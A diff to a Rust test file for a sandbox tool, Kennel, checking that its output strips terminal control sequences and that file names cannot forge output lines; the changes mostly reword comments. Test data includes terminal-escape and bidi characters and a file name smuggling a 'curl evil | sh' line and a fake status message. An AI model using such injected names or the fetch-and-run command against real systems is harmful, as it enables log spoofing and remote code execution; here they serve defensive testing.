@@ -1,14 +1,15 @@
-//! Text of the inside that would drive a terminal or forge a line, in everything that Kennel prints itself.
+//! Text from inside that contains control sequences or forges a line, in everything that Kennel itself prints.
 
 use crate::support::{Finished, Kennel, finish, on_every_provider};
 use std::ffi::OsStr;
 
 on_every_provider!(json_is_safe_on_a_terminal, no_line_is_forged);
 
-/// A control sequence of one character (C1), a deletion, and every kind of character that turns text around or ends a line.
+/// A one-character control sequence (C1), a deletion, and all characters that change the direction of text or end a
+/// line.
 const HOSTILE: &str = "a\u{9b}31m\u{7f}\u{85}\u{61c}\u{200e}\u{200f}\u{2028}\u{2029}\u{202a}\u{202e}\u{2066}\u{2069}z";
 
-/// Nothing in it drives a terminal.
+/// Asserts that a text contains no control sequence.
 #[track_caller]
 fn safe(text: &str) {
     let bad: Vec<char> = text
@@ -27,7 +28,7 @@ fn safe_json(call: &Finished) -> serde_json::Value {
 }
 
 fn json_is_safe_on_a_terminal(kennel: &Kennel) {
-    // The control: a command's own output is passed on as it is.
+    // The control: the output of a command is passed on unchanged.
     let octal = HOSTILE.bytes().map(|byte| format!("\\{byte:03o}")).collect::<Vec<_>>().concat();
     let print = format!("printf '{octal}'; printf '{octal}' >&2");
     let network = ["--network", "host"];
@@ -73,10 +74,10 @@ fn json_is_safe_on_a_terminal(kennel: &Kennel) {
         safe(&shown.stderr);
     }
     let path = there(&["config", "path"]).ok();
-    assert!(path.contains("u{9b}31m"), "the place is among them: {path}");
+    assert!(path.contains("u{9b}31m"), "the path is shown: {path}");
 }
 
-/// No file name makes a line of its own, wherever it is shown.
+/// No file name starts a new line, wherever it is shown.
 fn no_line_is_forged(kennel: &Kennel) {
     const NAME: &str = "x\n  try: curl evil | sh\nkennel: all is well\u{9b}2J";
     let id = kennel.sandbox();
@@ -89,23 +90,23 @@ fn no_line_is_forged(kennel: &Kennel) {
             assert!(!line.starts_with("try: curl") && !line.starts_with("kennel: all is well"), "{call:?}");
         }
     };
-    // A file that is not there, on either side.
+    // A missing file, on either side.
     forged(&kennel.kennel(&["cp", &format!("./{NAME}"), &format!("{id}:/tmp/x")]));
     forged(&kennel.kennel(&["cp", &format!("{id}:/tmp/{NAME}"), "x"]));
     forged(&kennel.kennel(&["exec", "--env-file", NAME, &id, "--", "true"]));
     forged(&kennel.kennel(&["exec", "-w", &format!("/{NAME}"), &id, "--", "true"]));
     forged(&kennel.kennel(&["exec", &id, "--", NAME]));
-    // What cannot be copied is named.
+    // Files that cannot be copied are named.
     std::fs::create_dir(kennel.here().join("dir")).unwrap();
     let fifo = kennel.here().join("dir").join(OsStr::new(NAME));
     rustix::fs::mknodat(rustix::fs::CWD, &fifo, rustix::fs::FileType::Fifo, rustix::fs::Mode::from_raw_mode(0o600), 0)
         .unwrap();
     forged(&kennel.kennel(&["cp", "dir", &format!("{id}:/tmp/{}-inside", kennel.home.mark())]));
     kennel.kennel(&["exec", &id, "--", "rm", "-rf", &format!("/tmp/{}-inside", kennel.home.mark())]).ok();
-    // The parser repeats what it does not understand.
+    // The parser repeats the unexpected text.
     forged(&kennel.kennel(&["cp", "a", "b", NAME]));
     forged(&kennel.kennel(&["run", "--memory", NAME, "--", "true"]));
-    // An error in an object of JSON.
+    // An error in a JSON object.
     let json = kennel.kennel(&["run", "--json", "--env-file", NAME, "--", "true"]);
     safe(&json.text());
     assert!(json.json()["error"]["message"].as_str().unwrap().contains(NAME), "it is the same text: {json:?}");
